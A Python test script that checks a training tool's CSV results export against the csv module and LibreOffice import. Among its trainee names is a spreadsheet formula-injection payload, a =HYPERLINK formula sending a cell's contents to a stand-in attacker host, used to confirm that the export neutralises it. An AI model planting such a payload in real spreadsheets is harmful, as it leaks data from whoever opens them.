#!/usr/bin/env python3
"""The CSV export as a leader's spreadsheet reads it.

Builds a results store from real playthroughs (the golden scripts of every bundled scenario)
by trainees with awkward names: Cyrillic, a comma, quotes, a line break, and names a
spreadsheet would run as formulas (=HYPERLINK(...), +, -, @). `play` refuses a name with a
control character (issue 16: exit 2, the message names --trainee), so the line break gets into
the store the way it still can: a store written by an older program, i.e. played under a
stand-in name that is then rewritten in the SQLite file (trainees.name). Then:
  - Python's csv module reads `report --format csv` back: one row per session, the header,
    every name exactly (formula names behind one apostrophe), numbers as plain numbers equal
    to the JSON export's scores;
  - two sessions at the edges of scoring: late-delivery with a transfer in the first reply (a
    critical mistake: not passed, overall capped below the raw weighted mean, the critical
    columns say 1 and "transfer") and a session quit before any reply (`play --text`, "q"):
    attempted 0 and "not attempted" in the overall cell, no band, no pass;
  - `--excel-ru` gives the byte-order mark, ';' separators and decimal commas;
  - the voice: without a reply read aloud there is no voice column at all (the export is as
    before results schema 4); in a store where trainees read replies aloud (`voice` lines of
    `play --script`: loud, fast, calm, not heard), the five voice columns come last, per session
    the replies read aloud, the mean loudness and pace of those heard (one decimal) and the
    loud and fast counts, as computed here from the script's figures by the documented rules;
    empty for a session without; Russian names and decimal commas with --excel-ru, and
    LibreOffice reads them as numbers;
  - LibreOffice (headless, formulas evaluated on import) converts both files to ODS: the
    Cyrillic names are intact, =HYPERLINK(...) is a text cell and not a formula, and the
    score columns are numbers, except the not-attempted session's "not attempted", a text
    cell, so the mean of the overall column's numbers is the mean of the scored sessions
    only. A control file with a raw formula shows LibreOffice would have run it.
"""
import argparse
import csv
import glob
import io
import json
import os
import re
import shutil
import sqlite3
import subprocess
import sys
import tempfile
import zipfile

FAILS = []

# late-delivery: the second reply offered first sends the customer to the courier (transfer).
TRANSFER = "2 @5\n1 @5\n1 @5\n1 @5\n2 @5\n"
NOT_ATTEMPTED = {"en": "not attempted", "ru": "нет попытки"}

NAMES = [
    "Анна Петрова",
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "+7 916 000",
    "-1+2",
    "@SUM(1,2)",
    "Smith, John",
    'Joe "the fixer"',
    "Line one\nline two",
]


def check(cond, what):
    if not cond:
        FAILS.append(what)
        print("FAIL:", what)


def run(cmd, env, **kw):
    return subprocess.run(cmd, env=env, capture_output=True, **kw)


def refused_by_play(name):
    """play --trainee refuses a control character (issue 16); such a name is put in the store
    the way an older program left it (see rewrite_names)."""
    return any(ord(c) < 0x20 or ord(c) == 0x7f for c in name)


def stand_in(i):
    return "stand-in %d" % i


def rewrite_names(db):
    """The store as the previous program wrote it: the stand-ins' names rewritten to the names
    play now refuses, straight in the SQLite file."""
    con = sqlite3.connect(db)
    done = 0
    for i, name in enumerate(NAMES):
        if refused_by_play(name):
            done += con.execute("UPDATE trainees SET name = ? WHERE name = ?",
                                (name, stand_in(i))).rowcount
    con.commit()
    con.close()
    return done


def build_store(frontline, root, db, env):
    scripts = sorted(glob.glob(os.path.join(root, "tests", "golden", "*", "*.script")))
    sessions = 0
    for i, script in enumerate(scripts):
        lang = os.path.basename(os.path.dirname(script))
        name = os.path.basename(script).split(".")[0]
        xml = os.path.join(root, "scenarios", lang, name + ".xml")
        k = i % len(NAMES)
        trainee = stand_in(k) if refused_by_play(NAMES[k]) else NAMES[k]
        group = "Группа 1" if i % 2 else "Group; two"
        p = run([frontline, "play", "--script", script, "--db", db, "--trainee", trainee,
                 "--group", group, xml], env)
        check(p.returncode == 0, "play %s: exit %d %s" % (script, p.returncode, p.stderr[-300:]))
        sessions += 1
    # play itself refuses the line break, before it writes anything.
    script = os.path.join(root, "tests", "golden", "en", "late-delivery.best.script")
    xml = os.path.join(root, "scenarios", "en", "late-delivery.xml")
    for name in NAMES:
        if not refused_by_play(name):
            continue
        p = run([frontline, "play", "--script", script, "--db", db, "--trainee", name, xml], env)
        err = p.stderr.decode("utf-8", "replace")
        check(p.returncode == 2 and "--trainee" in err and "control character" in err,
              "play --trainee %r: exit %d (want 2, naming --trainee) %r" % (name, p.returncode,
                                                                          err[-300:]))
    check(rewrite_names(db) > 0, "the names play refuses were written into the store")
    # The edges: a transfer in the first reply (a critical mistake), and q before any reply.
    xml = os.path.join(root, "scenarios", "en", "late-delivery.xml")
    transfer = os.path.join(os.path.dirname(db), "transfer.script")
    with open(transfer, "w") as f:
        f.write(TRANSFER)
    p = run([frontline, "play", "--script", transfer, "--db", db, "--trainee", NAMES[0],
             "--group", "Edge cases", "--assessment", xml], env)
    check(p.returncode == 0, "play the transfer: exit %d %s" % (p.returncode, p.stderr[-300:]))
    p = run([frontline, "play", "--text", "--db", db, "--trainee", NAMES[5], "--group",
             "Edge cases", xml], env, input=b"\nq\n")
    check(p.returncode == 0, "play --text, q: exit %d %s" % (p.returncode, p.stderr[-300:]))
    return sessions + 2


# Sessions read aloud: (scenario, trainee, script with voice lines). The figures are judged by
# the rules of game/core/voice.h, restated here: loud from -17 dBFS, fast above 6 syllables a
# second, not heard under 0.3 s of speech or under -50 dBFS (and then nothing else).
VOICE_FIGURES = [
    # late-delivery's best path: loud and fast, calm, not heard, unread
    ("en/late-delivery", "Анна Петрова", [
        {"rms": -12.5, "peak": -1, "rate": 6.4, "speech": 2.1},
        {"rms": -22, "rate": 4.2, "speech": 3},
        {"rms": -70, "speech": 0.1},
        None]),
    # the Russian one: fast only, then loud only
    ("ru/dostavka-opazdyvaet", "Smith, John", [
        {"rms": -19.25, "rate": 7.5, "speech": 2},
        {"rms": -15.5, "rate": 3.5, "speech": 2.5}]),
]
VOICE_COLUMNS = ["voice_replies", "voice_rms_dbfs", "voice_syllables_per_s", "voice_loud",
                 "voice_fast"]
VOICE_COLUMNS_RU = ["голос_ответов", "голос_громкость_дбфш", "голос_слогов_в_с", "голос_громко",
                    "голос_быстро"]


def judge(f):
    if f.get("speech", 2) < 0.3 or f.get("rms", -24) < -50:
        return {"silent"}
    return ({"loud"} if f.get("rms", -24) >= -17 else set()) | (
        {"fast"} if f.get("rate", 4) > 6 else set())


def voice_store(frontline, root, db, env, tmp):
    """Plays VOICE_FIGURES (and one session unread) into db; returns {trainee: the expected
    five cells as numbers (None: empty)}."""
    want = {}
    for scen, trainee, figures in VOICE_FIGURES:
        golden = open(os.path.join(root, "tests", "golden", scen + ".best.script")).read()
        replies = [l for l in golden.splitlines() if l.strip() and not l.startswith("#")]
        lines = []
        for i, reply in enumerate(replies):
            lines.append(reply)
            f = figures[i] if i < len(figures) else None
            if f:
                lines.append("voice " + " ".join("%s=%g" % kv for kv in f.items()))
        path = os.path.join(tmp, "voice.script")
        with open(path, "w") as out:
            out.write("\n".join(lines) + "\n")
        p = run([frontline, "play", "--script", path, "--db", db, "--trainee", trainee,
                 "--group", "Voice room", os.path.join(root, "scenarios", scen + ".xml")], env)
        check(p.returncode == 0, "play %s read aloud: %s" % (scen, p.stderr[-300:]))
        read = [f for f in figures if f]
        heard = [f for f in read if "silent" not in judge(f)]
        want[trainee] = [
            len(read),
            sum(f["rms"] for f in heard) / len(heard) if heard else None,
            sum(f["rate"] for f in heard) / len(heard) if heard else None,
            sum("loud" in judge(f) for f in read),
            sum("fast" in judge(f) for f in read)]
    p = run([frontline, "play", "--script",
             os.path.join(root, "tests", "golden", "en", "late-delivery.best.script"), "--db", db,
             "--trainee", "unread", os.path.join(root, "scenarios", "en", "late-delivery.xml")],
            env)
    check(p.returncode == 0, "play unread: %s" % p.stderr[-300:])
    want["unread"] = [None] * 5
    return want


def check_voice_cells(rows, names, want, comma, where):
    """rows: the CSV's rows (header first); names: the voice columns' names expected last."""
    header = rows[0]
    check(header[-5:] == names, "%s: the voice columns last: %s" % (where, header[-5:]))
    col = {h: i for i, h in enumerate(header)}
    tcol = col.get("trainee", col.get("стажёр"))
    seen = set()
    for row in rows[1:]:
        w = want.get(row[tcol])
        if w is None:
            continue
        seen.add(row[tcol])
        cells = row[-5:]
        for k, (cell, v) in enumerate(zip(cells, w)):
            if v is None:
                check(cell == "", "%s: %s %s empty, is %r" % (where, row[tcol], names[k], cell))
            elif k in (1, 2):
                check(re.fullmatch(r"-?\d+" + (",", ".")[not comma] + r"\d", cell) is not None and
                      abs(float(cell.replace(",", ".")) - v) <= 0.05 + 1e-9,
                      "%s: %s %s %r, want %.3f to one decimal" % (where, row[tcol], names[k],
                                                                    cell, v))
            else:
                check(cell == str(v), "%s: %s %s %r, want %s" % (where, row[tcol], names[k],
                                                                 cell, v))
    check(seen == set(want), "%s: rows of %s, want %s" % (where, sorted(seen), sorted(want)))


def ods_rows(path):
    """The cells of the first sheet of an ODS file: [(value-type, formula, text), ...] per row."""
    with zipfile.ZipFile(path) as z:
        xml = z.read("content.xml").decode("utf-8")
    rows = []
    for row in re.findall(r"<table:table-row[^>]*>(.*?)</table:table-row>", xml, re.S):
        cells = []
        for attrs, body in re.findall(r"<table:table-cell([^>]*?)(?:/>|>(.*?)</table:table-cell>)",
                                      row, re.S):
            rep = re.search(r'table:number-columns-repeated="(\d+)"', attrs)
            vt = re.search(r'office:value-type="(\w+)"', attrs)
            formula = re.search(r'table:formula="([^"]*)"', attrs)
            text = "\n".join(re.sub(r"<[^>]+>", "", p) for p in re.findall(r"<text:p>(.*?)</text:p>", body or "", re.S))
            text = (text.replace("&quot;", '"').replace("&apos;", "'").replace("&lt;", "<")
                    .replace("&gt;", ">").replace("&amp;", "&"))
            n = int(rep.group(1)) if rep else 1
            if n > 50:  # the empty tail of the row
                break
            cells += [(vt.group(1) if vt else None, formula.group(1) if formula else None, text)] * n
        rows.append(cells)
    return rows


def libreoffice(csv_path, sep, outdir, env, lang=1033, check=check):
    """csv_path opened by LibreOffice's CSV import as a user of that locale would (lang 1033
    en-US: decimal point; 1049 ru-RU: decimal comma), converted to ODS; its cells. A failed
    conversion goes to check (csv_excel.py passes its own)."""
    # CSV import options: separator, quote, UTF-8 (76), from line 1, ..., the locale, token 13:
    # evaluate formulas (on: the test is that nothing in the file is one).
    opts = "CSV:%d,34,76,1,,%d,false,false,false,false,false,-1,true" % (ord(sep), lang)
    profile = tempfile.mkdtemp(prefix="lo-profile-")
    try:
        p = run(["soffice", "-env:UserInstallation=file://" + profile, "--headless",
                 "--convert-to", "ods", "--outdir", outdir, "--infilter=" + opts, csv_path],
                env, timeout=180)
    finally:
        shutil.rmtree(profile, ignore_errors=True)
    ods = os.path.join(outdir, os.path.splitext(os.path.basename(csv_path))[0] + ".ods")
    check(p.returncode == 0 and os.path.exists(ods),
          "LibreOffice converted %s (%s)" % (csv_path, p.stderr.decode()[-300:]))
    return ods_rows(ods) if os.path.exists(ods) else []


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--frontline", required=True)
    ap.add_argument("--root", required=True)
    a = ap.parse_args()
    tmp = tempfile.mkdtemp(prefix="fl-csv-")
    env = dict(os.environ, XDG_DATA_HOME=tmp + "/data", XDG_STATE_HOME=tmp + "/state",
               TZ="Europe/Moscow", HOME=tmp)
    db = os.path.join(tmp, "room.sqlite")
    n = build_store(a.frontline, a.root, db, env)
    print("sessions played:", n)

    p = run([a.frontline, "report", "--db", db, "--format", "json"], env)
    check(p.returncode == 0, "json export: %s" % p.stderr)
    sessions = {s["session"]: s for s in json.loads(p.stdout)}
    check(len(sessions) == n, "json export has %d sessions, played %d" % (len(sessions), n))

    plain = os.path.join(tmp, "results.csv")
    p = run([a.frontline, "report", "--db", db, "-o", plain], env)
    check(p.returncode == 0, "csv export: %s" % p.stderr)
    raw = open(plain, "rb").read()
    check(not raw.startswith(b"\xef\xbb\xbf"), "no byte-order mark by default")
    check(b"\r\n" in raw, "RFC 4180 line ends (CRLF)")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8"), newline="")))
    header, body = rows[0], rows[1:]
    check(len(body) == n, "one row per session: %d rows, %d sessions" % (len(body), n))
    dims = ["empathy", "apology", "ownership", "tone", "upsell", "resolution", "responsiveness"]
    for col in ["session", "trainee", "group", "scenario", "overall", "band", "findings",
                "attempted", "raw", "critical_mistakes", "critical"] + dims:
        check(col in header, "column %s in the header" % col)
    col = {h: i for i, h in enumerate(header)}
    names_seen = set()
    for row in body:
        s = sessions.get(row[col["session"]])
        check(s is not None, "row for a session the JSON has: %s" % row[0])
        if not s:
            continue
        t = row[col["trainee"]]
        want = s["trainee"]
        if want[0] in "=+-@":
            check(t == "'" + want, "formula-like name neutralised: %r -> %r" % (want, t))
        else:
            check(t == want, "name intact: %r -> %r" % (want, t))
        names_seen.add(want)
        if s["overall"] is None:
            want_overall = "" if s["attempted"] else NOT_ATTEMPTED["en"]
        else:
            want_overall = str(s["overall"])
        check(row[col["overall"]] == want_overall,
              "overall %r, want %r" % (row[col["overall"]], want_overall))
        blank = lambda v: "" if v is None else str(v)
        flag = lambda v: "" if v is None else "1" if v else "0"
        check(row[col["attempted"]] == flag(s["attempted"]) and
              row[col["passed"]] == flag(s["passed"]) and row[col["raw"]] == blank(s["raw"]) and
              row[col["band"]] == blank(s["band"]),
              "attempted/passed/raw/band %s, JSON %s" % (
                  [row[col[k]] for k in ("attempted", "passed", "raw", "band")],
                  [s[k] for k in ("attempted", "passed", "raw", "band")]))
        check(row[col["critical_mistakes"]] == blank(s["critical_mistakes"]) and
              row[col["critical"]] == ("" if s["critical"] is None else " ".join(s["critical"])),
              "critical %r %r, JSON %r %r" % (row[col["critical_mistakes"]], row[col["critical"]],
                                              s["critical_mistakes"], s["critical"]))
        for d in dims:
            v = s["dimensions"][d]
            check(row[col[d]] == ("" if v is None else str(v)), "%s: csv %r json %r" % (d, row[col[d]], v))
        check(int(row[col["findings"]]) == s["findings_count"] == len(s["findings"]),
              "findings counted: %s vs %d" % (row[col["findings"]], len(s["findings"])))
    check(names_seen == set(NAMES), "every trainee name came back")

    # The two edge sessions, as a leader reads them.
    edge = {s["session"]: s for s in sessions.values() if s["group"] == "Edge cases"}
    rows_by_id = {r[col["session"]]: r for r in body}
    transfer = [i for i, s in edge.items() if s["critical"] == ["transfer"]]
    quit_ids = [i for i, s in edge.items() if s["attempted"] is False]
    if check(len(transfer) == 1 and len(quit_ids) == 1,
             "the transfer and the quit sessions are in the export: %s" % list(edge.values())):
        t = rows_by_id[transfer[0]]
        check(t[col["passed"]] == "0" and t[col["critical_mistakes"]] == "1" and
              t[col["critical"]] == "transfer" and t[col["attempted"]] == "1" and
              int(t[col["overall"]]) < 70 <= int(t[col["raw"]]),
              "the transfer's row: passed %s, critical %s %s, overall %s, raw %s" % (
                  t[col["passed"]], t[col["critical_mistakes"]], t[col["critical"]],
                  t[col["overall"]], t[col["raw"]]))
        q = rows_by_id[quit_ids[0]]
        check(q[col["attempted"]] == "0" and q[col["overall"]] == "not attempted" and
              q[col["finished"]] == "0" and q[col["passed"]] == "" and q[col["band"]] == "" and
              all(q[col[d]] == "" for d in dims),
              "the quit session's row: %s" % q)
    not_attempted_id = quit_ids[0] if quit_ids else None

    ru = os.path.join(tmp, "results-ru.csv")
    p = run([a.frontline, "report", "--db", db, "--excel-ru", "--lang", "ru", "-o", ru], env)
    check(p.returncode == 0, "csv --excel-ru: %s" % p.stderr)
    raw_ru = open(ru, "rb").read()
    check(raw_ru.startswith(b"\xef\xbb\xbf"), "--excel-ru starts with the UTF-8 byte-order mark")
    rows_ru = list(csv.reader(io.StringIO(raw_ru[3:].decode("utf-8"), newline=""), delimiter=";"))
    check(len(rows_ru) == n + 1 and len(rows_ru[0]) == len(header),
          "--excel-ru: same rows and columns with ';'")
    check("стажёр" in rows_ru[0], "Russian headers with --lang ru: %s" % rows_ru[0][:3])
    ru_col = {h: i for i, h in enumerate(rows_ru[0])}
    check("критические_ошибки" in ru_col and "попытка" in ru_col,
          "Russian headers of the new columns: %s" % rows_ru[0])
    for r in rows_ru[1:]:
        if r[0] == not_attempted_id:
            check(r[ru_col["итог"]] == NOT_ATTEMPTED["ru"],
                  "--excel-ru: the quit session's overall cell %r" % r[ru_col["итог"]])

    # Without a reply read aloud, no voice column at all: the export is as before schema 4.
    check(not any(h.startswith("voice_") for h in header) and
          not any(h.startswith("голос_") for h in rows_ru[0]),
          "voice columns in an export without voice: %s" % header[-6:])
    # With replies read aloud: the five columns, per session, in both languages.
    vdb = os.path.join(tmp, "voice.sqlite")
    want_voice = voice_store(a.frontline, a.root, vdb, env, tmp)
    vplain, vru = os.path.join(tmp, "voice.csv"), os.path.join(tmp, "voice-ru.csv")
    p = run([a.frontline, "report", "--db", vdb, "-o", vplain], env)
    check(p.returncode == 0, "csv export of the voice store: %s" % p.stderr)
    vrows = list(csv.reader(io.StringIO(open(vplain, encoding="utf-8").read(), newline="")))
    check(vrows[0][:len(header)] == header, "the voice store's columns start as before")
    check_voice_cells(vrows, VOICE_COLUMNS, want_voice, False, "voice.csv")
    p = run([a.frontline, "report", "--db", vdb, "--excel-ru", "--lang", "ru", "-o", vru], env)
    check(p.returncode == 0, "csv --excel-ru of the voice store: %s" % p.stderr)
    vrows_ru = list(csv.reader(io.StringIO(open(vru, encoding="utf-8-sig").read(), newline=""),
                               delimiter=";"))
    check_voice_cells(vrows_ru, VOICE_COLUMNS_RU, want_voice, True, "voice-ru.csv")

    # The progress bar (on a terminal by itself for long exports; --progress forces it).
    p = run([a.frontline, "report", "--db", db, "--progress", "-o", os.path.join(tmp, "p.csv")], env)
    err = p.stderr.decode()
    check(p.returncode == 0 and re.search(r"\[#{30}\] 100%% %d/%d sessions" % (n, n), err),
          "--progress draws a bar that ends at 100%%: %r" % err)
    p = run([a.frontline, "report", "--db", db, "-o", os.path.join(tmp, "q.csv")], env)
    check(p.stderr == b"", "no progress bar when standard error is not a terminal")

    # An existing file is not overwritten without --force.
    before = open(plain, "rb").read()
    p = run([a.frontline, "report", "--db", db, "--format", "csv", "-o", plain], env)
    check(p.returncode == 1 and b"--force" in p.stderr and open(plain, "rb").read() == before,
          "an existing output is kept without --force")

    if not shutil.which("soffice"):
        check(False, "LibreOffice (soffice) is installed: run tools/setup.sh")
    else:
        out = os.path.join(os.getcwd(), "report", "artefacts")
        os.makedirs(out, exist_ok=True)
        for path, sep, hdr in ((plain, ",", header), (ru, ";", rows_ru[0])):
            sheet = libreoffice(path, sep, out, env)
            check(len(sheet) >= n + 1, "LibreOffice read %d rows from %s" % (len(sheet), path))
            if len(sheet) < n + 1:
                continue
            hcol = {c[2]: i for i, c in enumerate(sheet[0])}
            tcol = hcol.get("trainee", hcol.get("стажёр"))
            ocol = hcol.get("overall", hcol.get("итог"))
            ccol = hcol.get("critical_mistakes", hcol.get("критические_ошибки"))
            numbers = []
            for cells in sheet[1:n + 1]:
                vt, formula, text = cells[tcol]
                check(formula is None, "%s: no formula in a trainee cell (%s)" % (path, formula))
                check(vt == "string", "%s: trainee cell is text (%s)" % (path, vt))
                s = sessions.get(cells[0][2], {})
                if s.get("attempted") is False:
                    check(cells[ocol][0] == "string" and
                          cells[ocol][2] in NOT_ATTEMPTED.values(),
                          "%s: the quit session's overall is the text 'not attempted' (%s)" % (
                              path, cells[ocol]))
                else:
                    check(cells[ocol][0] == "float", "%s: overall is a number (%s)" % (
                        path, cells[ocol]))
                    check(cells[ccol][0] == "float", "%s: critical mistakes is a number (%s)" % (
                        path, cells[ccol]))
                if cells[ocol][0] == "float":
                    numbers.append(float(cells[ocol][2].replace(",", ".")))
            # What AVERAGE() takes: the number cells, so only the scored sessions.
            scored = [s["overall"] for s in sessions.values() if s["overall"] is not None]
            check(len(numbers) == len(scored) and
                  abs(sum(numbers) / len(numbers) - sum(scored) / len(scored)) < 1e-9,
                  "%s: the mean of the overall numbers %s is not the scored sessions' mean %s" % (
                      path, sum(numbers) / max(1, len(numbers)), sum(scored) / max(1, len(scored))))
            texts = {c[tcol][2] for c in sheet[1:n + 1]}
            check("Анна Петрова" in texts, "%s: Cyrillic intact in the spreadsheet" % path)
            check("'" + NAMES[1] in texts, "%s: =HYPERLINK shows as text" % path)
        # The voice columns are numbers to the spreadsheet too (the means with the decimal
        # comma of --excel-ru included); the unread session's are empty.
        for path, sep, names in ((vplain, ",", VOICE_COLUMNS), (vru, ";", VOICE_COLUMNS_RU)):
            sheet = libreoffice(path, sep, out, env)
            if not check(len(sheet) >= len(want_voice) + 1, "LibreOffice read %s" % path):
                continue
            hcol = {c[2]: i for i, c in enumerate(sheet[0])}
            tcol = hcol.get("trainee", hcol.get("стажёр"))
            for cells in sheet[1:len(want_voice) + 1]:
                w = want_voice.get(cells[tcol][2])
                for k, name in enumerate(names):
                    c = cells[hcol[name]] if hcol.get(name, 10**6) < len(cells) else (None, None, "")
                    if w is None or w[k] is None:
                        check(c[2] == "", "%s: %s empty (%s)" % (path, name, c))
                    else:
                        check(c[0] == "float" and abs(float(c[2].replace(",", ".")) - w[k]) <= 0.05 + 1e-9,
                              "%s: %s of %s is the number %s (%s)" % (path, name, cells[tcol][2],
                                                                       w[k], c))
        # Control: the same import does run a raw formula, so the checks above can fail.
        control = os.path.join(tmp, "control.csv")
        with open(control, "w", newline="") as f:
            f.write('trainee,overall\r\n=HYPERLINK("http://x";"y"),1\r\n')
        sheet = libreoffice(control, ",", tmp, env)
        check(len(sheet) > 1 and sheet[1][0][1] is not None,
              "control: LibreOffice evaluates an unneutralised formula")
    shutil.rmtree(tmp, ignore_errors=True)
    if FAILS:
        print("%d failure(s)" % len(FAILS))
        return 1
    print("ok: %d sessions; csv module and LibreOffice agree with the JSON export" % n)
    return 0


if __name__ == "__main__":
    sys.exit(main())
